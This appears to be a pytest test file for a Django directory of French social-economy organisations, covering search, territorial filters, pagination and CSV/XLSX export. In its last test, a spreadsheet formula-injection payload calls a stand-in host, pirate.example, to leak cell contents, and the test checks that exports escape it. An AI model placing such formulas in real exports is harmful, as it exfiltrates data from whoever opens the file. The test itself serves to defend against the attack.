import pytest
from django.urls import reverse

from acteurs_ess.selectors import Criteres, page_de_resultats, rechercher_structures, structures_du_territoire
from comptes.models import Organisation, TypeOrganisation
from tests.acteurs_ess.factories import MembreCollectifFactory, StructureFactory

pytestmark = pytest.mark.django_db

URL = reverse("acteurs_ess:annuaire")


def noms(criteres: Criteres) -> list[str]:
    return [structure.raison_sociale for structure in rechercher_structures(criteres)]


@pytest.fixture
def structures(territoire):
    return {
        "regie": StructureFactory(
            raison_sociale="Régie de quartier de Maurepas",
            forme_juridique="association",
            agrements=["regie_quartier", "siae_aci"],
            domaines=["espaces_publics", "emploi_insertion"],
            commune=territoire["rennes"],
            description="Entretien des halls et des espaces verts par les habitants.",
        ),
        "scop": StructureFactory(
            raison_sociale="Coursiers Solidaires",
            forme_juridique="scop",
            domaines=["mobilite"],
            commune=territoire["saint_jacques"],
            description="Livraisons à vélo cargo dans le quartier.",
        ),
        "epicerie": StructureFactory(
            raison_sociale="Épicerie du Blosne",
            forme_juridique="association",
            domaines=["lien_social"],
            commune=territoire["brest"],
            description="Une épicerie solidaire et un café associatif ; ateliers de cuisine.",
        ),
    }


def test_it_finds_words_without_accents(structures):
    assert noms(Criteres(texte="regie")) == ["Régie de quartier de Maurepas"]
    assert noms(Criteres(texte="epicerie")) == ["Épicerie du Blosne"]


def test_it_searches_descriptions_and_labels_with_french_stemming(structures):
    assert noms(Criteres(texte="livraison vélo")) == ["Coursiers Solidaires"]
    assert noms(Criteres(texte="insertion")) == ["Régie de quartier de Maurepas"]
    assert noms(Criteres(texte="cafés associatifs")) == ["Épicerie du Blosne"]


def test_it_ranks_names_above_descriptions(structures):
    StructureFactory(raison_sociale="Atelier vélo", description="Réparation.")
    assert noms(Criteres(texte="vélo")) == ["Atelier vélo", "Coursiers Solidaires"]


def test_it_tolerates_a_typo_in_a_name(structures):
    assert noms(Criteres(texte="Coursers Solidares")) == []
    resultats = page_de_resultats(Criteres(texte="Coursers Solidares"))
    assert resultats.approche
    assert [s.raison_sociale for s in resultats.page] == ["Coursiers Solidaires"]


def test_it_filters_by_legal_form_label_and_field_of_action(structures):
    assert noms(Criteres(forme_juridique="scop")) == ["Coursiers Solidaires"]
    assert noms(Criteres(agrement="siae_aci")) == ["Régie de quartier de Maurepas"]
    assert noms(Criteres(domaine="lien_social")) == ["Épicerie du Blosne"]


def test_it_filters_by_qpv_commune_and_epci(structures, territoire):
    structures["epicerie"].qpv.add(territoire["blosne"])
    structures["scop"].communes_action.add(territoire["rennes"])
    assert noms(Criteres(qpv="QN03505M")) == ["Épicerie du Blosne"]
    # Rennes : siège (régie), action déclarée (coursiers) ou QPV de Rennes (épicerie).
    assert set(noms(Criteres(commune="35238"))) == {
        "Coursiers Solidaires",
        "Épicerie du Blosne",
        "Régie de quartier de Maurepas",
    }
    assert noms(Criteres(commune="35281")) == ["Coursiers Solidaires"]
    assert noms(Criteres(epci="242900314")) == ["Épicerie du Blosne"]
    assert len(noms(Criteres(epci="243500139"))) == 3


def test_it_filters_by_collective(structures):
    membre = MembreCollectifFactory(organisation=structures["scop"].organisation)
    MembreCollectifFactory(
        collectif=membre.collectif, organisation=Organisation.objects.create(nom="Ville", type=TypeOrganisation.COMMUNE)
    )
    assert noms(Criteres(collectif=membre.collectif_id)) == ["Coursiers Solidaires"]


def test_it_combines_text_and_filters(structures):
    assert noms(Criteres(texte="solidaire", forme_juridique="association")) == ["Épicerie du Blosne"]


def test_it_lists_the_structures_of_a_territory(structures, territoire):
    structures["epicerie"].qpv.add(territoire["maurepas"])
    assert [s.raison_sociale for s in structures_du_territoire(qpv=territoire["maurepas"])] == ["Épicerie du Blosne"]
    assert structures_du_territoire(commune="35281").get() == structures["scop"]
    assert structures_du_territoire(epci=territoire["metropole"]).count() == 3


def test_the_directory_page_is_public_searchable_and_paginated(client, territoire):
    for numero in range(25):
        StructureFactory(raison_sociale=f"Maison de quartier {numero:02d}", commune=territoire["rennes"])
    reponse = client.get(URL, {"q": "maison", "commune": "35238"})
    contenu = reponse.content.decode()
    assert reponse.status_code == 200
    assert "25 structures" in contenu
    assert "Maison de quartier 00" in contenu
    assert "Maison de quartier 24" not in contenu
    assert "fr-pagination" in contenu
    page_2 = client.get(URL, {"q": "maison", "commune": "35238", "page": 2}).content.decode()
    assert "Maison de quartier 24" in page_2


def test_it_caps_the_count_of_very_broad_searches(client, territoire, monkeypatch):
    from acteurs_ess.selectors import PaginateurPlafonne

    monkeypatch.setattr(PaginateurPlafonne, "PLAFOND", 5)
    for _ in range(7):
        StructureFactory(description="Jardins partagés")
    contenu = client.get(URL, {"q": "jardin"}).content.decode()
    assert "Plus de 1 000 structures" in contenu
    assert "Précisez votre recherche" in contenu


def test_it_suggests_close_names_when_nothing_matches_exactly(client, structures):
    contenu = client.get(URL, {"q": "Coursers Solidares"}).content.decode()
    assert "voici les noms qui s'en approchent" in contenu
    assert "Coursiers Solidaires" in contenu


@pytest.mark.parametrize(
    "filtres",
    [{"commune": "Saint-Jacques-de-la-Lande"}, {"commune": "35281"}, {"epci": "rennes metropole", "q": "velo"}],
)
def test_it_filters_territories_by_name_or_code(client, structures, filtres):
    contenu = client.get(URL, filtres).content.decode()
    assert "1 structure" in contenu
    assert "Coursiers Solidaires" in contenu


def test_it_explains_an_unknown_territory_filter(client, structures):
    contenu = client.get(URL, {"epci": "Métropole imaginaire"}).content.decode()
    assert "Aucune intercommunalité ne s&#x27;appelle exactement « Métropole imaginaire »" in contenu


def test_it_ignores_an_invalid_filter_value(client, structures):
    reponse = client.get(URL, {"forme_juridique": "inconnue"})
    assert reponse.status_code == 200
    assert "Sélectionnez un choix valide" in reponse.content.decode()


def test_the_directory_runs_a_fixed_number_of_queries(client, territoire, django_assert_num_queries):
    def creer(nombre):
        for _ in range(nombre):
            structure = StructureFactory(commune=territoire["rennes"], domaines=["sante", "sport"])
            structure.qpv.add(territoire["blosne"])

    creer(2)
    # 1 : liste des collectifs (filtre) ; 2 : nombre de résultats (plafonné) ; 3 : page de résultats ;
    # 4 : leurs communes.
    with django_assert_num_queries(4):
        client.get(URL, {"q": "association", "qpv": "QN03505M"})
    creer(20)
    with django_assert_num_queries(4):
        client.get(URL, {"q": "association", "qpv": "QN03505M"})


def test_the_export_follows_the_current_filter(client, structures, territoire):
    structures["regie"].qpv.add(territoire["maurepas"], territoire["blosne"])
    reponse = client.get(reverse("acteurs_ess:exporter_csv"), {"agrement": "regie_quartier"})
    contenu = b"".join(reponse.streaming_content).decode("utf-8-sig").splitlines()
    assert contenu[0] == (
        "raison_sociale,sigle,siret,siren,rna,forme_juridique,agrements,commune,qpv,adresse,site_web,description"
    )
    assert len(contenu) == 2
    assert contenu[1].startswith(
        "Régie de quartier de Maurepas,,,,,association,regie_quartier|siae_aci,35238,QN03504M|QN03505M,"
    )


def test_the_xlsx_export_has_the_same_columns(client, structures):
    import io

    import openpyxl

    reponse = client.get(reverse("acteurs_ess:exporter_xlsx"), {"q": "coursiers"})
    feuille = openpyxl.load_workbook(io.BytesIO(reponse.content)).active
    lignes = list(feuille.iter_rows(values_only=True))
    assert lignes[0][0] == "raison_sociale"
    assert len(lignes[0]) == 12
    assert lignes[1][0] == "Coursiers Solidaires"
    assert lignes[1][5] == "scop"


FORMULE = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'


def test_the_exports_never_turn_a_name_into_a_formula(client, territoire):
    import csv
    import io

    import openpyxl

    StructureFactory(raison_sociale=FORMULE, sigle="-1+2", description="@SOMME(A1)", commune=territoire["rennes"])
    reponse = client.get(reverse("acteurs_ess:exporter_csv"))
    lignes = list(csv.reader(io.StringIO(b"".join(reponse.streaming_content).decode("utf-8-sig"), newline="")))
    assert lignes[1][:2] == ["'" + FORMULE, "'-1+2"]
    assert lignes[1][11] == "'@SOMME(A1)"
    reponse = client.get(reverse("acteurs_ess:exporter_xlsx"))
    cellules = next(openpyxl.load_workbook(io.BytesIO(reponse.content)).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in (cellules[0], cellules[1])] == [(FORMULE, "s"), ("-1+2", "s")]
